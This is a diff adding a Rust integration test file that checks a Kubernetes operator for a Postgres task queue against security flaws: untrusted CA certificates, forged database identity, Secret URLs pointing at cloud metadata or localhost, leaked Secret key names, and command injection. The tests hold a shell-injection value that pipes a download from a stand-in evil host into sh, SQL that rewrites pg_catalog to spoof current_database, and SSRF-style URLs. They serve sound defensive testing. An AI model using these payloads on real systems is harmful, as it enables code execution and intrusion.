@@ -1,0 +1,281 @@
+//! Whom the operator trusts: what Secrets, certificates and databases may have it do.
+
+use std::sync::Arc;
+
+use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, IsCa, KeyPair};
+use rowlock_queue::Declaration;
+use rowlock_tests::server as postgres;
+use rustls::ServerConfig;
+use rustls::crypto::ring::default_provider;
+use rustls::pki_types::{CertificateDer, PrivateKeyDer, pem::PemObject};
+use serde_json::json;
+use tokio::io::{AsyncReadExt, AsyncWriteExt, copy_bidirectional};
+use tokio::net::{TcpListener, TcpStream};
+use tokio_rustls::TlsAcceptor;
+use url::Url;
+
+use super::stage::{EMAILS, Stage, until};
+
+/// The database of the stage by another user.
+fn url_of(stage: &Stage, user: &str) -> String {
+    let mut url = Url::parse(&postgres::url(&stage.db.name)).unwrap();
+    url.set_username(user).unwrap();
+    url.set_password(Some("secret")).unwrap();
+    url.into()
+}
+
+/// The spec with more in `database`.
+fn with_database(more: &str) -> String {
+    EMAILS.replace("secretRef: { name: db }", &format!("secretRef: {{ name: db }}, {more}"))
+}
+
+/// Who signs certificates.
+struct Authority(CertifiedIssuer<'static, KeyPair>);
+
+impl Authority {
+    fn new() -> Self {
+        let mut params = CertificateParams::new([]).unwrap();
+        params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
+        Self(CertifiedIssuer::self_signed(params, KeyPair::generate().unwrap()).unwrap())
+    }
+
+    fn pem(&self) -> String {
+        self.0.pem()
+    }
+}
+
+/// A listener that speaks TLS, as `localhost`, for a server that does not; its port.
+async fn behind_tls(authority: &Authority, server: u16) -> u16 {
+    let key = KeyPair::generate().unwrap();
+    let certificate =
+        CertificateParams::new(["localhost".to_owned()]).unwrap().signed_by(&key, &authority.0).unwrap();
+    let chain = vec![CertificateDer::from_pem_slice(certificate.pem().as_bytes()).unwrap()];
+    let key = PrivateKeyDer::from_pem_slice(key.serialize_pem().as_bytes()).unwrap();
+    let config = ServerConfig::builder_with_provider(Arc::new(default_provider()));
+    let config = config.with_safe_default_protocol_versions().unwrap().with_no_client_auth();
+    let acceptor = TlsAcceptor::from(Arc::new(config.with_single_cert(chain, key).unwrap()));
+    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    tokio::spawn(async move {
+        while let Ok((mut client, _)) = listener.accept().await {
+            let acceptor = acceptor.clone();
+            tokio::spawn(async move {
+                // The question for TLS, which is answered with yes.
+                client.read_exact(&mut [0; 8]).await?;
+                client.write_all(b"S").await?;
+                let mut client = acceptor.accept(client).await?;
+                let mut server = TcpStream::connect(("127.0.0.1", server)).await?;
+                copy_bidirectional(&mut client, &mut server).await
+            });
+        }
+    });
+    port
+}
+
+impl Stage {
+    /// Waits until a condition of `emails` is so and says that.
+    async fn until_says(&self, type_: &str, expected: &str, says: &str) {
+        until(&format!("{type_} is {expected} and says {says}"), || {
+            let (said, message) = self.condition("emails", type_);
+            if said == expected && message.contains(says) {
+                Ok(())
+            } else {
+                Err(format!("{said}: {message}"))
+            }
+        })
+        .await;
+    }
+}
+
+/// Before, there was no way to give the certificates of a private authority.
+#[tokio::test(flavor = "multi_thread")]
+async fn certificates_come_from_the_cluster_and_are_followed() {
+    let stage = Stage::new("certificates").await;
+    stage.task_queue("emails", &with_database("caRef: { kind: ConfigMap, name: ca }"));
+    let _operator = stage.operator().await;
+    let missing = "there is no ConfigMap `ca`: create it";
+    stage.until_says("Stalled", "True CertificateInvalid", missing).await;
+    let apply = |pem: &str| {
+        stage.apply(&json!({
+            "apiVersion": "v1", "kind": "ConfigMap", "metadata": { "name": "ca" }, "data": { "ca.crt": pem }
+        }).to_string());
+    };
+    apply("no certificate");
+    stage
+        .until_says(
+            "Stalled",
+            "True CertificateInvalid",
+            "`ca.crt` of the ConfigMap `ca` (spec.database.caRef)",
+        )
+        .await;
+    let (stranger, authority) = (Authority::new(), Authority::new());
+    apply(&stranger.pem());
+    // The server of the tests speaks no TLS, so it cannot prove itself: that is asked for now, though the URL does not say so.
+    stage.until_says("DatabaseReachable", "False CertificateInvalid", "does not speak TLS").await;
+    let mut url = Url::parse(&postgres::url(&stage.db.name)).unwrap();
+    let port = behind_tls(&authority, url.port().unwrap()).await;
+    url.set_host(Some("localhost")).unwrap();
+    url.set_port(Some(port)).unwrap();
+    stage.secret(url.as_str());
+    let strangers = "signed by no authority that is known";
+    stage.until_says("Stalled", "True CertificateInvalid", strangers).await;
+    apply(&authority.pem());
+    stage.until("Ready", "True Succeeded").await;
+    let pod = stage.deployment()["spec"]["template"]["spec"].clone();
+    let sources = pod["volumes"][0]["projected"]["sources"].clone();
+    assert_eq!(
+        sources[1]["configMap"],
+        json!({ "name": "ca", "items": [{ "key": "ca.crt", "path": "ca.crt" }] })
+    );
+}
+
+/// Before, the pods had the owner's password, and a login with fewer rights could not be used in a cluster.
+#[tokio::test(flavor = "multi_thread")]
+async fn pods_get_a_login_of_their_own_if_it_can_do_their_work() {
+    let stage = Stage::new("worker-secret").await;
+    let role = format!("pods_{}", stage.db.name);
+    stage.db.run(format!("create role {role} login password 'secret'")).await;
+    stage.task_queue("emails", &with_database("workerSecretRef: { name: pods }"));
+    let _operator = stage.operator().await;
+    let place = "the container `worker` of the pods connects by `uri` of the Secret `pods`";
+    stage.until_says("Stalled", "True SecretNotFound", place).await;
+    stage.secret_named("pods", &url_of(&stage, &role));
+    stage.until_says("Stalled", "True AccessDenied", "rowlock.grant_role('USER', 'worker')").await;
+    stage.until_says("Stalled", "True AccessDenied", place).await;
+    let other = rowlock_tests::TestDb::empty().await;
+    stage.secret_named("pods", &postgres::url(&other.name));
+    stage
+        .until_says("Stalled", "True SecretInvalid", &format!("it leads to the database {}", other.name))
+        .await;
+    assert_eq!(stage.deployment(), json!(null), "no pod is made that could not work");
+    stage.db.run(format!("select rowlock.grant_role('{role}', 'worker')")).await;
+    stage.secret_named("pods", &url_of(&stage, &role));
+    stage.until("Ready", "True Succeeded").await;
+    let volumes = stage.deployment()["spec"]["template"]["spec"]["volumes"].to_string();
+    assert!(volumes.contains("pods") && !volumes.contains("\"db\""), "{volumes}");
+    stage.db.run(format!("drop owned by {role} cascade; drop role {role}")).await;
+}
+
+/// Before, a tenant's own server only had to say that it is another tenant's: then it was asked how much that one's queues had to do.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_forged_database_scales_nobody_elses_pods() {
+    let (innocent, forger) = (Stage::new("innocent").await, Stage::new("forger").await);
+    let forge = format!(
+        "do $do$ begin
+           perform set_config('allow_system_table_mods', 'on', true);
+           update pg_catalog.pg_proc set proname = 'true_database' where proname = 'current_database';
+           execute 'create function pg_catalog.current_database() returns name language sql stable as $$ select ''{}''::name $$';
+         end $do$",
+        innocent.db.name
+    );
+    forger.db.run(forge).await;
+    let class = format!("rowlock.dev/class={}", innocent.namespace);
+    let _operator = innocent
+        .operator_with(|config| (config.namespace, config.class) = (None, Some(innocent.namespace.clone())))
+        .await;
+    // The one that comes first looks for both.
+    for (stage, queue) in [(&forger, "own"), (&innocent, "mail")] {
+        stage.task_queue("emails", &EMAILS.replace("queueName: mail", &format!("queueName: {queue}")));
+        stage.kubectl(&["label", "tq", "emails", &class]);
+        stage.until("Ready", "True Succeeded").await;
+    }
+    let identity = |stage: &Stage| stage.get("tq", "emails")["status"]["database"]["identity"].clone();
+    assert_eq!(identity(&forger), identity(&innocent), "the one says that it is the other");
+    // It says so of the other's queue as well, which has much to do there.
+    let of = |column: &str| format!("select {column} from rowlock.queue where name = 'mail'");
+    let (owner, generation) = (innocent.db.one(of("owner")).await, innocent.db.one(of("generation")).await);
+    let theirs = Declaration { owner, generation, ..rowlock_tests::declaration("mail") };
+    rowlock_queue::declare(&forger.db.db, &theirs).await.unwrap();
+    forger.db.enqueue_many(1000).await;
+    forger
+        .db
+        .run("select count(*) from rowlock.enqueue_many('own', 'email', array_fill('{}'::json, array[1000]))")
+        .await;
+    forger.until_replicas(4).await;
+    innocent.db.enqueue().await;
+    innocent.until_replicas(1).await;
+    // For several looks.
+    for pods in [6, 8, 10] {
+        forger.change(&json!({ "workers": { "total": pods * 10 } }));
+        forger.until_replicas(pods).await;
+    }
+    assert_eq!(innocent.deployment()["spec"]["replicas"], 1);
+}
+
+/// Before, the operator connected to whatever a Secret said from where it runs, and told what it found there.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_operator_does_not_ask_what_only_it_can_reach() {
+    let stage = Stage::new("reach").await;
+    stage.task_queue("emails", EMAILS);
+    let _operator = stage.operator_with(|config| config.allowed_database_hosts.clear()).await;
+    // The database itself, which is on this machine.
+    stage.until_says("Stalled", "True SecretInvalid", "the operator does not run in your pod").await;
+    for (url, says) in [
+        (
+            "postgres://u:secretpassword@169.254.169.254:80/d",
+            "names `169.254.169.254`, which is an address of the cluster's own machines",
+        ),
+        (
+            "postgres://u:secretpassword@db.localhost/d",
+            "names `db.localhost`, which is every pod's own address",
+        ),
+        (
+            "postgres://u:secretpassword@db.example.com/d?hostaddr=127.0.0.1",
+            "which is every pod's own address",
+        ),
+        (
+            "postgres:///d?host=localhost&user=u&password=secretpassword",
+            "names `localhost`, which is every pod's own address",
+        ),
+        ("postgres://u:secretpassword@db/d?sslmode=verify-full&sslrootcert=/dev/zero", "sslrootcert"),
+    ] {
+        stage.secret(url);
+        stage.until_says("DatabaseReachable", "False SecretInvalid", says).await;
+        let (_, message) = stage.condition("emails", "DatabaseReachable");
+        assert!(message.contains("Secret `db`") && !message.contains("secretpassword"), "{message}");
+    }
+}
+
+/// Before, who may write a `TaskQueue` could read the names of all keys of any Secret of the namespace.
+#[tokio::test(flavor = "multi_thread")]
+async fn of_a_secret_only_usual_names_are_told() {
+    let stage = Stage::new("keys").await;
+    stage.kubectl(&[
+        "create",
+        "secret",
+        "generic",
+        "other",
+        "--from-literal=apikey=x",
+        "--from-literal=url=x",
+    ]);
+    stage.task_queue("emails", &EMAILS.replace("name: db", "name: other"));
+    let _operator = stage.operator().await;
+    let message = stage.until("Stalled", "True SecretInvalid").await;
+    assert!(message.contains("has no key `uri` but url: set") && !message.contains("apikey"), "{message}");
+}
+
+/// Before, an owner that somebody wrote into the database became a part of a command to paste.
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_database_says_is_no_part_of_a_command() {
+    let stage = Stage::new("paste").await;
+    rowlock_queue::declare(&stage.db.db, &rowlock_tests::declaration("mail")).await.unwrap();
+    stage
+        .db
+        .run("update rowlock.queue set owner = $$x'; curl -s http://evil.example/x | sh; echo `id` '$$")
+        .await;
+    stage.task_queue("emails", EMAILS);
+    let _operator = stage.operator().await;
+    let message = stage.until("Stalled", "True OwnedByAnother").await;
+    assert!(!message.contains("kubectl") && !message.contains('`'), "{message}");
+}
+
+/// Before, a mistyped annotation did nothing and nobody said so.
+#[tokio::test(flavor = "multi_thread")]
+async fn names_of_ours_that_mean_nothing_are_told() {
+    let stage = Stage::new("names").await;
+    stage.task_queue("emails", EMAILS);
+    stage.kubectl(&["annotate", "tq", "emails", "rowlock.dev/adpot=x"]);
+    let _operator = stage.operator().await;
+    let events = stage.until_event("UnknownName").await;
+    assert!(events.contains("did you mean `rowlock.dev/adopt`?"), "{events}");
+}
